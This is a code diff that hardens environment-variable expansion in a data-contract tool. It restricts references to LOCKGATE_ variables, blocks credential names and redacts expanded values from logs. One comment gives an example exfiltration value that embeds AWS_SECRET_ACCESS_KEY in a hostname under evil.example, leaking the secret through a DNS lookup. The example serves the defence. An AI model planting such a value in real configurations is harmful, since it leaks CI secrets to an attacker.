@@ -14,15 +14,26 @@ from sqlglot import exp
 from lockgate.errors import LockgateError
 
 _ENV = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}")
+# A contract is untrusted: `host: ${AWS_SECRET_ACCESS_KEY}.evil.example` would send any variable
+# of the CI job out in a DNS lookup. Contracts may name only lockgate's own variables, and never
+# the credentials (those are read by the connectors themselves).
+ENV_PREFIX = "LOCKGATE_"
+CREDENTIAL_VARIABLES = frozenset({"LOCKGATE_POSTGRES_PASSWORD", "LOCKGATE_POSTGRES_USER"})
 
 
 def expand_env(value: Any) -> Any:
-    """`${VAR}` and `${VAR:-default}` in server fields, so secrets and paths stay out of contracts."""
+    """`${LOCKGATE_VAR}` and `${LOCKGATE_VAR:-default}` in server fields, so paths and hosts stay
+    out of contracts."""
     if not isinstance(value, str):
         return value
 
     def replace(match: re.Match) -> str:
         name, default = match.group(1), match.group(2)
+        if not name.startswith(ENV_PREFIX) or name in CREDENTIAL_VARIABLES:
+            raise LockgateError(
+                f"a contract may only use {ENV_PREFIX}* environment variables other than the "
+                f"credentials; ${{{name}}} is not allowed (SECURITY.md)"
+            )
         if name in os.environ:
             return os.environ[name]
         if default is not None:
@@ -30,6 +41,31 @@ def expand_env(value: Any) -> Any:
         raise LockgateError(f"environment variable {name} is not set (used in a server definition)")
 
     return _ENV.sub(replace, value)
+
+
+def env_refusal(value: Any) -> str | None:
+    """Why `value` (a server field) may not be expanded, or None; for lint."""
+    if not isinstance(value, str):
+        return None
+    for match in _ENV.finditer(value):
+        name = match.group(1)
+        if not name.startswith(ENV_PREFIX) or name in CREDENTIAL_VARIABLES:
+            return f"${{{name}}}: a contract may only use {ENV_PREFIX}* environment variables other than the credentials"
+    return None
+
+
+def redact(text: str, options: dict[str, Any]) -> str:
+    """`text` with every value that came from the environment shown as the `${VAR}` the contract
+    wrote: a contract must not get a secret printed into a CI log by naming it as a host."""
+    for raw in options.values():
+        if isinstance(raw, str) and "${" in raw:
+            try:
+                value = expand_env(raw)
+            except LockgateError:
+                continue
+            if value and value != raw:
+                text = text.replace(value, raw)
+    return text
 
 
 class Connector(ABC):
